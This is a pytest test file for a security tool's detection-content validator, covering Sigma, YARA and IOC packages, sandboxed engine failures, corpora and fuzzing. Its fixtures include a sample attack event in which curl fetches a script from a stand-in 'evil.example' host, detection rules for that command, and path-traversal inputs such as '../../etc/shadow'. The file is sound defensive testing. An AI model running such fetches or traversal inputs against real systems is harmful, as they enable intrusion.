"""`ringfence content validate`: the gauntlet on real engines in the real sandbox (run as root: the
extension user, cgroups, Landlock, seccomp). Every issue of a package at once, each with its file, line
and rule id; engines that crash, eat memory, hang or raise, as blocking issues; a corpus whose expected
finding no longer fires. No timing is asserted (latency is only reported)."""

from __future__ import annotations

import json
import os
from pathlib import Path

import msgspec
import pytest

from ringfence.agent._config import ExtensionsSection
from ringfence.agent._validate import ValidateOptions, engine_schema, package_problem, validate_package
from ringfence.cli import main
from ringfence.content._package import MANIFEST, build_tar, file_sha256
from ringfence.events import Header, OcsfEncoder, ProcessActivity, ProcessActivityId, ProcessRef

ENGINES = str(Path(__file__).parent)  # validate_engines/ is a package here
TEST_ENGINES = ExtensionsSection(
    enabled=tuple(f"t.{n.lower()}=validate_engines:{n}" for n in ("Crasher", "Hog", "Brittle", "Sleeper")),
    import_paths=(ENGINES,),
)
SMALL = msgspec.structs.replace(TEST_ENGINES, memory_mb=96)  # the Hog meets its end sooner
QUICK = ValidateOptions(fuzz_s=0, load_s=60)


IDS = {name: f"00000000-0000-4000-8000-{n:012d}" for n, name in
       enumerate(("r-curl", "r-fields", "r-port", "r-regex", "r-f", "r-gone"), 1)}  # fmt: skip


def rule(rule_id: str, detection: str, category: str = "process_creation") -> str:
    rule_id = IDS[rule_id]
    body = "\n".join("  " + line for line in detection.splitlines())
    return (f"title: rule {rule_id}\nid: {rule_id}\nstatus: test\nlogsource:\n  category: {category}\n"
            f"  product: linux\ndetection:\n{body}\nlevel: high\n")  # fmt: skip


GOOD = rule("r-curl", "sel:\n  Image|endswith: /curl\n  CommandLine|contains: evil.example\ncondition: sel")


def manifest(engine: str, interface: str, files: dict[str, bytes], **wrong: str) -> bytes:
    sums = {name: wrong.get(name, file_sha256(data)) for name, data in files.items()}
    lines = [
        'name = "t"',
        f'engine = "{engine}"',
        'version = "1.0"',
        f'interface = "{interface}"',
        "[sha256]",
    ]
    lines += [f'"{name}" = "{digest}"' for name, digest in sums.items()]
    return ("\n".join(lines) + "\n").encode()


def package(
    tmp_path: Path,
    files: dict[str, str],
    engine: str = "ringfence.sigma",
    interface: str = "sigma@1",
    extra: dict[str, str] | None = None,
    **wrong: str,
) -> str:
    data = {name: text.encode() for name, text in files.items()}
    tar = build_tar({MANIFEST: manifest(engine, interface, data, **wrong), **data,
                     **{n: t.encode() for n, t in (extra or {}).items()}})  # fmt: skip
    path = tmp_path / "pkg.tar"
    path.write_bytes(tar)
    return str(path)


def event(exe: str, *args: str, n: int = 0) -> bytes:
    e = ProcessActivity(
        header=Header(id=f"e{n}", time_ns=1_700_000_000_000_000_000 + n, mono_ns=n, host="h",
                      sensor="process", seq=n),
        activity=ProcessActivityId.LAUNCH,
        process=ProcessRef(pid=100 + n, exe=exe, cmdline=(exe, *args)),
    )  # fmt: skip
    return OcsfEncoder().encode(e)


def corpus(tmp_path: Path, expect: str, attacks: list[bytes], benign: list[bytes]) -> str:
    d = tmp_path / "corpus"
    d.mkdir()
    (d / "expect.toml").write_text(expect)
    (d / "attacks.jsonl").write_bytes(b"".join(attacks))
    (d / "benign.jsonl").write_bytes(b"".join(benign))
    return str(d)


def blocking(report) -> list[tuple[str, str | None, int | None, str | None]]:
    return [(i.stage, i.file, i.line, i.rule) for i in report.blocking]


def test_a_good_package_passes_every_stage_with_its_corpus_and_fuzzing(tmp_path, capsys) -> None:
    pkg = package(tmp_path, {"curl.yml": GOOD})
    expect = f'must_fire = ["{IDS["r-curl"]}"]\nbenign_budget = 0\n'
    attacks = [event("/usr/bin/curl", "http://evil.example/x.sh", n=1)]
    benign = [event("/usr/bin/curl", "https://deb.debian.org/", n=2), event("/bin/ls", n=3)]
    d = corpus(tmp_path, expect, attacks, benign)
    assert main(["content", "validate", pkg, "--corpus", d, "--fuzz-seconds", "2", "--json"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["blocking"] == 0 and [i for i in doc["issues"] if i["severity"] == "error"] == []
    by_name = {c["name"]: c for c in doc["corpus"]}
    assert by_name["corpus/attacks.jsonl"]["findings"] == {IDS["r-curl"]: 1}
    assert by_name["corpus/benign.jsonl"]["findings"] == {}
    assert by_name["corpus/benign.jsonl"]["latency"]["events"] == 2  # measured, not asserted
    assert doc["fuzz_events"] > 0 and (doc["engine"], doc["interface"]) == ("ringfence.sigma", "sigma@1")


def test_every_issue_of_a_bad_package_is_reported_at_once_with_file_line_and_rule(tmp_path, capsys) -> None:
    files = {
        "fields.yml": rule(
            "r-fields", "sel:\n  OriginalFileName|endswith: /x\n  Image|gt: 5\ncondition: sel"
        ),
        "port.yml": rule("r-port", "sel:\n  DestinationPort: https\ncondition: sel", "network_connection"),
        "dup.yml": rule("r-fields", "sel:\n  Image|endswith: /y\ncondition: sel"),
        "broken.yml": "title: [unclosed\nid: r-broken\n",
        "regex.yml": rule("r-regex", "sel:\n  CommandLine|re: '(a)\\1'\ncondition: sel"),
        "tampered.yml": GOOD,
    }
    other = rule("r-gone", "sel:\n  Image|endswith: /z\ncondition: sel")
    pkg = package(tmp_path, files, interface="sigma@2", extra={"extra.yml": other, "../escape.yml": other},
                  **{"tampered.yml": "0" * 64})  # fmt: skip
    assert main(["content", "validate", pkg, "--fuzz-seconds", "0", "--json"]) == 1
    doc = json.loads(capsys.readouterr().out)
    errors = [i for i in doc["issues"] if i["severity"] == "error"]

    def one(stage: str, file: str, rule_id: str | None, words: str) -> dict:
        (issue,) = [i for i in errors if (i["stage"], i["file"], i["rule"]) == (stage, file, rule_id)
                    and words in i["message"]]  # fmt: skip
        return issue

    one("structure", "tampered.yml", None, "is not the manifest's")
    one("structure", "extra.yml", None, "not in the manifest")
    one("structure", "../escape.yml", None, "path traversal")
    one("contract", MANIFEST, None, "interface sigma@2")
    field = one("contract", "fields.yml", IDS["r-fields"], "OriginalFileName is not supplied")
    assert (field["line"], field["code"]) == (9, "contract-field")
    types = [i for i in doc["issues"] if i["code"] == "contract-type"]
    assert {(i["file"], i["line"]) for i in types} == {("fields.yml", 10), ("port.yml", 9)}
    assert {i["severity"] for i in types} == {"error"}
    assert one("static", "fields.yml", IDS["r-fields"], "also used in dup.yml")["code"] == "duplicate-id"
    assert one("static", "broken.yml", None, "YAML")["line"] == 2
    one("static", "regex.yml", IDS["r-regex"], "re2")
    assert doc["blocking"] == len(errors) == 10  # the eight above and the two types: nothing else blocks

    assert main(["content", "validate", pkg, "--fuzz-seconds", "0"]) == 1  # the text form: one issue a line
    text = capsys.readouterr().out.splitlines()
    shown = f"fields.yml:9: rule {IDS['r-fields']}: error [contract]: field OriginalFileName is not supplied"
    assert shown in "\n".join(text)
    assert text[-1].startswith(f"REFUSED: {doc['blocking']} blocking")


def test_bad_usage_is_exit_2_and_a_package_that_cannot_be_read_is_one_line(tmp_path, capsys) -> None:
    with pytest.raises(SystemExit) as e:
        main(["content", "validate"])
    assert e.value.code == 2
    assert main(["content", "validate", str(tmp_path / "none.tar")]) == 1
    assert "cannot read" in capsys.readouterr().err
    pkg = package(tmp_path, {"curl.yml": GOOD})
    assert main(["content", "validate", pkg, "--corpus", str(tmp_path), "--fuzz-seconds", "0"]) == 1
    assert "expect.toml: cannot read" in capsys.readouterr().err  # a corpus without its expectations
    d = corpus(tmp_path, 'benign = ["../../etc/shadow"]\n', [], [])
    assert main(["content", "validate", pkg, "--corpus", d, "--fuzz-seconds", "0"]) == 1
    assert "named as files of the corpus directory" in capsys.readouterr().err
    (Path(d) / "expect.toml").write_text("must_fire = 3\n")
    assert main(["content", "validate", pkg, "--corpus", d, "--fuzz-seconds", "0"]) == 1
    assert "must_fire" in capsys.readouterr().err
    assert main(["content", "validate", pkg, "--fuzz-seconds", "-1"]) == 2


@pytest.mark.parametrize(
    ("engine", "content", "words"),
    [
        ("t.crasher", "crash", "killed by signal 6"),
        ("t.hog", "hog", "out of memory"),
        ("t.sleeper", "sleep", "did not finish within 5 s (the load budget)"),
    ],
)
def test_an_engine_that_dies_or_overruns_on_the_package_in_the_sandbox_is_blocking_with_what_it_printed(
    tmp_path, engine, content, words
) -> None:
    pkg = package(tmp_path, {"rule.txt": content}, engine=engine, interface="t@1")
    report = validate_package(pkg, SMALL, ValidateOptions(fuzz_s=0, load_s=5))
    (issue,) = report.blocking
    assert issue.stage == "load" and words in issue.message, issue
    if engine == "t.crasher":
        assert "the rule says crash" in issue.message  # the tail of what the engine printed
    ok = package(tmp_path, {"rule.txt": "fine"}, engine=engine, interface="t@1")
    assert validate_package(ok, TEST_ENGINES, QUICK).blocking == []  # the same engine, harmless content


def test_an_event_that_spins_is_killed_at_the_deadline_of_cpu(tmp_path) -> None:
    pkg = package(tmp_path, {"rule.txt": "x"}, engine="t.sleeper", interface="t@1")
    d = corpus(tmp_path, "", [event("/spin", n=1)], [])
    report = validate_package(pkg, TEST_ENGINES, ValidateOptions(corpus=d, fuzz_s=0, event_deadline_s=1.0))
    (spin,) = report.blocking
    assert spin.stage == "corpus" and "over 1 s of CPU (the per-event deadline)" in spin.message


def test_a_slow_event_that_uses_no_cpu_is_not_taken_for_a_hang(tmp_path) -> None:
    """2.5 s of wall time against a 1 s deadline, as a child starved of a core on a loaded host spends it:
    judged by wall time the validator refused a good pack as hung (CI, under load)."""
    pkg = package(tmp_path, {"rule.txt": "x"}, engine="t.sleeper", interface="t@1")
    d = corpus(tmp_path, "benign_budget = 1\n", [], [event("/nap", n=1), event("/bin/ok", n=2)])
    report = validate_package(pkg, TEST_ENGINES, ValidateOptions(corpus=d, fuzz_s=0, event_deadline_s=1.0))
    assert report.blocking == []


def test_a_corpus_whose_expected_finding_no_longer_fires_is_blocking(tmp_path) -> None:
    pkg = package(tmp_path, {"curl.yml": GOOD.replace("evil.example", "other.example")})
    expect = f'must_fire = ["{IDS["r-curl"]}", "{IDS["r-gone"]}"]\n'
    d = corpus(tmp_path, expect, [event("/usr/bin/curl", "http://evil.example/", n=1)], [])
    report = validate_package(pkg, ExtensionsSection(), ValidateOptions(corpus=d, fuzz_s=0))
    assert blocking(report) == [("corpus", "corpus/attacks.jsonl", None, IDS["r-curl"]),
                                ("corpus", "corpus/attacks.jsonl", None, IDS["r-gone"])]  # fmt: skip
    assert all("no longer" in i.message for i in report.blocking)


def test_findings_over_the_benign_budget_and_a_hang_on_a_recorded_event_are_blocking(tmp_path) -> None:
    pkg = package(tmp_path, {"rule.txt": "x"}, engine="t.sleeper", interface="t@1")
    d = corpus(tmp_path, "benign_budget = 1\n", [event("/hang", n=9)],
               [event("/bin/ok", n=1), event("/bin/ok", n=2)])  # fmt: skip
    options = ValidateOptions(corpus=d, fuzz_s=0, event_deadline_s=1.0)
    benign_first = validate_package(pkg, TEST_ENGINES, options)
    # the attack file comes first: the hang ends the child there
    (hang,) = benign_first.blocking
    assert hang.stage == "corpus" and "per-event deadline" in hang.message
    (tmp_path / "corpus" / "expect.toml").write_text("attacks = []\nbenign_budget = 1\n")
    report = validate_package(pkg, TEST_ENGINES, options)
    (over,) = report.blocking
    assert over.file == "corpus/benign.jsonl" and "2 findings on the benign corpus" in over.message


def test_fuzzing_finds_the_event_a_broken_engine_raises_on(tmp_path) -> None:
    pkg = package(tmp_path, {"rule.txt": "x"}, engine="t.brittle", interface="t@1")
    report = validate_package(pkg, TEST_ENGINES, ValidateOptions(fuzz_s=20, seed=1))
    (issue,) = report.blocking
    assert issue.stage == "fuzz" and "IndexError: brittle" in issue.message
    assert '"cmdline":["",""]' in issue.message  # shrunk to the smallest event that still raises


def test_the_schema_is_read_from_the_engine_in_the_sandbox(capsys) -> None:
    assert main(["content", "schema", "ringfence.sigma"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["interface"] == "sigma@1" and "process" in doc["kinds"]
    assert {"name": "DestinationPort", "type": "integer", "source": "remote.port"} in doc["logsources"][
        "network_connection"
    ]
    assert engine_schema("t.crasher", TEST_ENGINES).interface == "t@1"
    assert main(["content", "schema", "t.nonexistent"]) == 1


def test_the_agents_check_refuses_what_breaks_the_contract_and_only_that(tmp_path) -> None:
    staged = tmp_path / "staged"
    staged.mkdir()
    (staged / MANIFEST).write_bytes(manifest("ringfence.sigma", "sigma@1", {"curl.yml": GOOD.encode()}))
    (staged / "curl.yml").write_text(GOOD)
    assert package_problem(str(staged), "ringfence.sigma", ExtensionsSection()) is None
    (staged / "bad.yml").write_text("title: [broken\n")  # not a contract problem: the engine's own verdict
    (staged / MANIFEST).write_bytes(
        manifest("ringfence.sigma", "sigma@1", {"curl.yml": GOOD.encode(), "bad.yml": b"title: [broken\n"})
    )
    assert package_problem(str(staged), "ringfence.sigma", ExtensionsSection()) is None
    field = rule("r-f", "sel:\n  Hashes|contains: abc\ncondition: sel")
    (staged / "f.yml").write_text(field)
    files = {"curl.yml": GOOD.encode(), "bad.yml": b"title: [broken\n", "f.yml": field.encode()}
    (staged / MANIFEST).write_bytes(manifest("ringfence.sigma", "sigma@1", files))
    problem = package_problem(str(staged), "ringfence.sigma", ExtensionsSection())
    assert (
        problem is not None
        and f"f.yml:9: rule {IDS['r-f']}: error [contract]: field Hashes is not" in problem
    )
    (staged / MANIFEST).write_bytes(manifest("ringfence.sigma", "sigma@9", files))
    assert "interface sigma@9" in (package_problem(str(staged), "ringfence.sigma", ExtensionsSection()) or "")
    (staged / "f.yml").write_text(GOOD)
    assert "is not the manifest's" in (
        package_problem(str(staged), "ringfence.sigma", ExtensionsSection()) or ""
    )
    assert os.listdir(staged)  # the check reads; it never changes what is staged


def test_yara_and_ioc_packages_go_through_their_own_engines(tmp_path) -> None:
    good = 'rule evil : block {\n  strings:\n    $a = "EVILEVIL"\n  condition:\n    $a\n}\n'
    yara = package(tmp_path, {"r.yar": good}, engine="ringfence.yara", interface="yara@1")
    report = validate_package(yara, ExtensionsSection(), ValidateOptions(fuzz_s=1))
    assert report.blocking == [] and report.fuzz_events > 0  # AUTH requests with no descriptor: allowed
    broken = package(tmp_path, {"r.yar": good, "bad.yar": "rule bad {\n  condition:\n    nonsense\n}\n"},
                     engine="ringfence.yara", interface="yara@1")  # fmt: skip
    (issue, *_) = validate_package(broken, ExtensionsSection(), QUICK).blocking
    assert (issue.stage, issue.file, issue.line) == ("static", "bad.yar", 3)
    ioc = package(
        tmp_path, {"list.ioc": "203.0.113.7\nevil.example\n"}, engine="ringfence.ioc", interface="ioc@1"
    )
    assert validate_package(ioc, ExtensionsSection(), ValidateOptions(fuzz_s=1)).blocking == []
    wrong = package(tmp_path, {"list.ioc": "203.0.113.7\n"}, engine="ringfence.ioc", interface="sigma@1")
    (issue,) = validate_package(wrong, ExtensionsSection(), QUICK).blocking
    assert issue.code == "contract-interface" and "engine ringfence.ioc runs ioc@1" in issue.message
